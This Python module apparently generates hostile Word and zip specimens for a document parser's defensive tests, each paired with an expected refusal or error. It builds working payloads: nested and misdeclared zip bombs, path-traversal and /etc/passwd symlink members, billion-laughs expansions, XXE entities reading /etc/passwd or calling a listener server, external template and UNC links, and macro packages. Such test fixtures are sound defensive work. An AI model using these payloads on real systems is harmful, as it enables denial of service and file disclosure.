"""Word packages built to do harm: bombs, lies, entities, links, names that lead elsewhere."""

from __future__ import annotations

import io
import re
import struct
import warnings
import zipfile
from collections.abc import Iterator

from hostile.specimen import Specimen, honest, specimen

MiB = 2**20
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCUMENT = "word/document.xml"


def specimens(listener: str) -> Iterator[Specimen]:
    """Every such file that is made and read in no time; `listener` is the address of a server nobody may call."""
    yield specimen("stored-deep.docx", lambda: packed({DOCUMENT: deep(100_000)}, zipfile.ZIP_STORED))
    yield specimen("many-members.docx", lambda: changed({f"word/media/{n}.xml": b"" for n in range(30_000)}))
    yield specimen("many-documents.docx", many_documents, "whole", "refused")
    yield specimen("overlapping.docx", overlapping)
    yield specimen("lying-small.docx", lambda: lying(100))
    yield specimen("lying-large.docx", lambda: lying(2**32 - 2), "whole", "refused")
    yield specimen("lying-ratio.docx", lambda: lying_packed(2**31), "whole", "refused")
    yield specimen("wrong-checksum.docx", wrong_checksum, says="损坏")
    yield specimen("unknown-method.docx", unknown_method, says="损坏")
    yield specimen("lzma.docx", lambda: packed(parts(), zipfile.ZIP_LZMA), "whole", "refused")
    yield specimen("bzip2.docx", lambda: packed(parts(), zipfile.ZIP_BZIP2), "whole", "refused")
    yield specimen("locked-member.docx", locked, says="加密")
    yield specimen("climbing.docx", lambda: changed({"../../climbed.txt": b"x", "/absolute.txt": b"x"}), "whole")
    yield specimen("climbing-document.docx", lambda: packed({"../../word/document.xml": parts()[DOCUMENT]}))
    yield specimen("symlink-document.docx", symlink_document)
    yield specimen("billion-laughs.docx", lambda: packed({DOCUMENT: laughs()}), says="DTD")
    yield specimen("quadratic-laughs.docx", lambda: packed({DOCUMENT: quadratic()}))
    yield specimen("external-entity.docx", lambda: packed({DOCUMENT: entity("file:///etc/passwd")}), says="DTD")
    yield specimen("calling-entity.docx", lambda: packed({DOCUMENT: entity(listener + "/entity")}), says="DTD")
    yield specimen("calling-dtd.docx", lambda: packed({DOCUMENT: calling_dtd(listener)}), says="DTD")
    yield specimen("utf16-laughs.docx", lambda: packed({DOCUMENT: laughs().decode().encode("utf-16")}))
    yield specimen("laughs-in-title.docx", lambda: changed({"docProps/core.xml": laughs()}), "whole", "refused")
    for place in (listener + "/linked", "file:///etc/passwd", "\\\\192.0.2.1\\share\\x.dotm"):
        yield specimen(f"links-{place[:4]}.docx", lambda place=place: linking(place), "whole")
    yield specimen("alt-chunk.docx", alt_chunk, "whole", says="外部内容")
    yield specimen("embedded.docx", lambda: changed({"word/embeddings/o.bin": b"\xd0\xcf\x11\xe0" * 999}), "whole")
    yield specimen("macros.docm", macros, "whole", "refused")
    yield specimen("macros.docx", macros, "whole", "refused")
    yield specimen("deep.docx", lambda: packed({DOCUMENT: deep(100_000)}))
    yield specimen("deep-tables.docx", lambda: packed({DOCUMENT: deep_tables(3_000)}))
    yield specimen("deep-text.docx", lambda: packed({DOCUMENT: deep_runs(2_000)}))
    yield specimen("wide-spans.docx", lambda: widened(10**9), "whole", "part", "refused")
    yield specimen("many-cells.docx", lambda: packed({DOCUMENT: many_cells(1000, 1000)}))
    yield specimen("attributes.docx", lambda: packed({DOCUMENT: attributes(1_000_000)}))
    yield specimen("namespaces.docx", lambda: packed({DOCUMENT: namespaces(50_000)}))
    yield specimen("bad-symbol.docx", bad_symbol, "whole", "part", "refused")
    yield specimen("comment-bomb.docx", comment_tail, "whole", "refused")
    for eighth in range(1, 8):
        cut = len(honest("docx")) * eighth // 8
        yield specimen(f"cut-{eighth}-eighths.docx", lambda cut=cut: honest("docx")[:cut], says="损坏")


def large(_listener: str = "") -> Iterator[Specimen]:
    """Those that are large, or take a while to make."""
    yield specimen("bomb.docx", lambda: packed({DOCUMENT: b" " * (300 * MiB)}), says="异常庞大")
    yield specimen("bomb-in-title.docx", lambda: changed({"docProps/core.xml": b" " * (300 * MiB)}), "whole", "refused")
    yield specimen("bomb-of-tags.docx", lambda: packed({DOCUMENT: tags(60 * MiB)}))
    yield specimen("bomb-of-paragraphs.docx", lambda: packed({DOCUMENT: paragraphs(50 * MiB)}))
    yield specimen("stored-tags.docx", lambda: packed({DOCUMENT: tags(60 * MiB)}, zipfile.ZIP_STORED))
    yield specimen("stored-paragraphs.docx", lambda: packed({DOCUMENT: paragraphs(60 * MiB)}, zipfile.ZIP_STORED))
    yield specimen("stored-cells.docx", lambda: packed({DOCUMENT: many_cells(800, 1000)}, zipfile.ZIP_STORED))
    yield specimen("bomb-in-bomb.docx", lambda: changed({"word/embeddings/a.zip": nested(5)}), "whole")
    yield specimen("bombs-inside-bombs.zip", lambda: nested(6))
    yield specimen("bzip2-bomb.docx", lambda: packed({DOCUMENT: b" " * (300 * MiB)}, zipfile.ZIP_BZIP2))
    yield specimen("lzma-bomb.docx", lambda: packed({DOCUMENT: b" " * (300 * MiB)}, zipfile.ZIP_LZMA))


def parts() -> dict[str, bytes]:
    """The parts of the honest Word report."""
    with zipfile.ZipFile(io.BytesIO(honest("docx"))) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of these members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as package:
        for name, content in members.items():
            package.writestr(name, content)
    return buffer.getvalue()


def changed(members: dict[str, bytes]) -> bytes:
    """The honest report with other members beside its own."""
    return packed({**parts(), **members})


def story(inside: str, before: str = "") -> bytes:
    """A main part with this body."""
    return f'{before}<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:body>{inside}</w:body></w:document>'.encode()


def tags(size: int) -> bytes:
    """A part of nothing but small elements."""
    return story("<w:p/>" * (size // 6))


def paragraphs(size: int) -> bytes:
    """A part of paragraphs of one character each."""
    one = "<w:p><w:r><w:t>年</w:t></w:r></w:p>"
    return story(one * (size // len(one)))


def nested(depth: int) -> bytes:
    """Zips in zips, ten of them in each, around a thousandfold bomb."""
    inner = packed({"0.bin": bytes(10 * MiB)})
    for _ in range(depth):
        inner = packed({f"{n}.zip": inner for n in range(10)})
    return inner


def many_documents() -> bytes:
    """A thousand main parts beside the one that is meant."""
    return changed({f"word/document{n}.xml": parts()[DOCUMENT] for n in range(1, 1000)})


def overlapping() -> bytes:
    """Members of the directory that all lie on the same packed bytes."""
    content = packed({DOCUMENT: b" " * (8 * MiB)})
    start = content.index(b"PK\x01\x02")
    entry = content[start : content.index(b"PK\x05\x06")]
    entries = b"".join(entry.replace(DOCUMENT.encode(), f"word/docum{n:04}.xml".encode()) for n in range(5000)) + entry
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 5001, 5001, len(entries), start, 0)
    return content[:start] + entries + end


def lying(size: int) -> bytes:
    """Headers that give every part this size."""
    content = bytearray(packed({DOCUMENT: b" " * (8 * MiB)}) if size < MiB else honest("docx"))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        for found in re.finditer(re.escape(mark), bytes(content)):
            content[found.start() + offset : found.start() + offset + 4] = struct.pack("<I", size)
    return bytes(content)


def lying_packed(size: int) -> bytes:
    """A directory that says the parts were packed from more than there is, to hide a ratio."""
    content = bytearray(packed({DOCUMENT: b" " * (60 * MiB)}))
    at = content.index(b"PK\x01\x02") + 20
    content[at : at + 4] = struct.pack("<I", size)
    return bytes(content)


def wrong_checksum() -> bytes:
    """A directory whose checksums are wrong."""
    content = bytearray(honest("docx"))
    for found in re.finditer(b"PK\x01\x02", bytes(content)):
        content[found.start() + 16] ^= 0xFF
    return bytes(content)


def unknown_method() -> bytes:
    """Members packed in a way nobody knows."""
    content = bytearray(honest("docx"))
    for mark, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        for found in re.finditer(re.escape(mark), bytes(content)):
            content[found.start() + offset : found.start() + offset + 2] = struct.pack("<H", 77)
    return bytes(content)


def locked() -> bytes:
    """Members that claim to be encrypted."""
    content = bytearray(honest("docx"))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for found in re.finditer(re.escape(mark), bytes(content)):
            content[found.start() + offset] |= 1
    return bytes(content)


def symlink_document() -> bytes:
    """A main part that is a symbolic link."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        entry = zipfile.ZipInfo(DOCUMENT)
        entry.external_attr = 0o120777 << 16
        package.writestr(entry, "/etc/passwd")
    return buffer.getvalue()


def laughs() -> bytes:
    """Ten entities, each ten times the one before."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 11))
    return story("<w:p><w:r><w:t>&l10;</w:t></w:r></w:p>", f'<!DOCTYPE x [<!ENTITY l0 "哈">{entities}]>')


def quadratic() -> bytes:
    """One long entity, used very often."""
    return story("&a;" * 50_000, f'<!DOCTYPE x [<!ENTITY a "{"哈" * 50_000}">]>')


def entity(place: str) -> bytes:
    """An entity whose text stands elsewhere."""
    return story("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", f'<!DOCTYPE x [<!ENTITY x SYSTEM "{place}">]>')


def calling_dtd(listener: str) -> bytes:
    """A declaration that stands on a server, by name and by parameter entity."""
    return story("", f'<!DOCTYPE x SYSTEM "{listener}/a.dtd" [<!ENTITY % p SYSTEM "{listener}/p"> %p;]>')


def linking(place: str) -> bytes:
    """A template, a picture and a frame that stand elsewhere."""
    links = "".join(
        f'<Relationship Id="r{kind}" Type="{OFFICE}/{kind}" Target="{place}" TargetMode="External"/>'
        for kind in ("attachedTemplate", "image", "frame", "oleObject", "subDocument")
    )
    relations = f'<Relationships xmlns="{RELATIONS}">{links}</Relationships>'.encode()
    return changed({"word/_rels/document.xml.rels": relations, "word/_rels/settings.xml.rels": relations})


def alt_chunk() -> bytes:
    """A page of HTML put into the body, to be shown as if it stood there."""
    document = parts()[DOCUMENT].replace(b"<w:body>", f'<w:body><w:altChunk xmlns:r="{OFFICE}" r:id="x"/>'.encode())
    return changed({DOCUMENT: document, "word/chunk.html": b"<table><tr><td>1</td></tr></table>"})


def macros() -> bytes:
    """A document with macros."""
    types = parts()["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    )
    return changed({"[Content_Types].xml": types, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 99})


def deep(depth: int) -> bytes:
    """Content controls in content controls."""
    return story("<w:sdt><w:sdtContent>" * depth + "</w:sdtContent></w:sdt>" * depth)


def deep_tables(depth: int) -> bytes:
    """Tables in tables."""
    return story("<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth)


def deep_runs(depth: int) -> bytes:
    """Links in links."""
    return story("<w:p>" + "<w:hyperlink>" * depth + "<w:r><w:t>年</w:t></w:r>" + "</w:hyperlink>" * depth + "</w:p>")


def widened(width: int) -> bytes:
    """Every cell of the honest report spans so many columns."""
    document = re.sub(rb"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="%d"/>' % width, parts()[DOCUMENT])
    return changed({DOCUMENT: document})


def many_cells(rows: int, columns: int) -> bytes:
    """One table of very many cells."""
    return story("<w:tbl>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * columns + "</w:tr>") * rows + "</w:tbl>")


def attributes(count: int) -> bytes:
    """One element with very many attributes."""
    return story("<w:p " + " ".join(f'a{n}="1"' for n in range(count)) + "/>")


def namespaces(count: int) -> bytes:
    """One element with very many name spaces."""
    return story("<w:p " + " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(count)) + "/>")


def bad_symbol() -> bytes:
    """Symbols whose code is no number, or beyond Unicode."""
    signs = "".join(f'<w:sym w:char="{code}"/>' for code in ("ZZZZ", "FFFFFFFF", "-1", "D800", ""))
    return changed(
        {DOCUMENT: parts()[DOCUMENT].replace(b"<w:body>", f"<w:body><w:p><w:r>{signs}</w:r></w:p>".encode())}
    )


def comment_tail() -> bytes:
    """A long comment behind the directory, full of signatures."""
    buffer = io.BytesIO(honest("docx"))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buffer, "a") as package:
            package.comment = b"PK\x05\x06" * 16_000
    return buffer.getvalue()
